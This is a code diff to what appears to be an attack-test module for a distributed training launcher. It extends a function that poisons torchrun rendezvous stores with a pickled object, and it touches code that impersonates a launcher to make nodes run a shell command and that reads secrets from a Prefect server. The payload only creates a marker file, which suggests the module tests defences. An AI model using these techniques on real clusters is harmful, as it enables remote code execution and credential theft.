@@ -10,13 +10,17 @@ import json
 import os
 import pickle
 import pwd
+import re
 import socket
 import subprocess
 import sys
+import urllib.request
 from collections.abc import Callable
 from datetime import timedelta
+from importlib import import_module
 from pathlib import Path
 
+from midstride.engine.launch.machines.connections import LauncherConnection, NodeConnections, Plan
 from midstride.engine.processes.lifetime import descendants
 
 __all__ = ["Touch", "attack", "listening_ports", "main", "start_attack"]
@@ -93,27 +97,37 @@ def rewrite_job(marker: str, *ports: str) -> str:
     return " ".join(done)
 
 
-def poison_rendezvous(port: str, run_id: str, marker: str) -> str:
-    """Put a pickle in place of the state of torchrun's c10d rendezvous."""
+def poison_rendezvous(marker: str, *ports: str) -> str:
+    """Put a pickle in place of the state of torchrun's rendezvous at each of `ports`; return where that was done."""
     from torch.distributed import TCPStore
 
-    store = TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=_S))
-    key = f"torch.rendezvous.{run_id}"
-    store.set(key, base64.b64encode(pickle.dumps(Touch(marker))).decode())
-    return "done"
+    done = []
+    for port in ports:
+        with contextlib.suppress(RuntimeError):
+            store = TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=_S))
+            for run_id in ("control", *_run_ids()):
+                state = base64.b64encode(pickle.dumps(Touch(marker))).decode()
+                store.set(f"torch.rendezvous.{run_id}", state)
+            done.append(port)
+    return " ".join(done) or "none"
+
+
+def _run_ids() -> list[str]:
+    """Return what commands of this machine name as their rendezvous."""
+    commands = []
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        with contextlib.suppress(OSError):
+            commands.append(path.read_bytes().decode(errors="replace"))
+    return re.findall(r"--rdzv-id=(\w+)", "\n".join(commands))
 
 
 def guess_secret(port: str) -> str:
     """Speak as a node does, with a secret of one's own."""
-    from midstride.engine.launch.machines.connections import LauncherConnection
-
     return str(LauncherConnection("127.0.0.1", int(port), "a" * 64).introduce("evil", 1))
 
 
 def be_launcher(port: str, marker: str) -> str:
     """Listen where a launcher did, and tell every node that comes to make a file."""
-    from midstride.engine.launch.machines.connections import NodeConnections, Plan
-
     document = {"job": {"module": "os:system", "module_args": {"command": f"touch {marker}"}}, "store_port": 1}
     connections = NodeConnections(socket.create_server(("127.0.0.1", int(port))), "a" * 64, document)
     connections.publish(Plan(over=0))
@@ -124,7 +138,6 @@ def be_launcher(port: str, marker: str) -> str:
 
 def read_prefect(address: str) -> str:
     """Read the secrets that are kept on a Prefect server, and pause its scheduling."""
-    import urllib.request
 
     def ask(path: str, body: object) -> object:
         data = json.dumps(body).encode()
@@ -139,9 +152,7 @@ def read_prefect(address: str) -> str:
 def _import_all(name: str) -> None:
     """Import all that a program needs, by using it once."""
     if name in ("rewrite_job", "poison_rendezvous"):
-        import torch.distributed  # noqa: F401
-    from midstride.engine.launch.machines.connections import LauncherConnection, NodeConnections
-
+        import_module("torch.distributed")
     with socket.create_server(("127.0.0.1", 0)) as listener:
         connections = NodeConnections(listener, "b" * 64, {})
         LauncherConnection("127.0.0.1", listener.getsockname()[1], "b" * 64).introduce("a", 1)
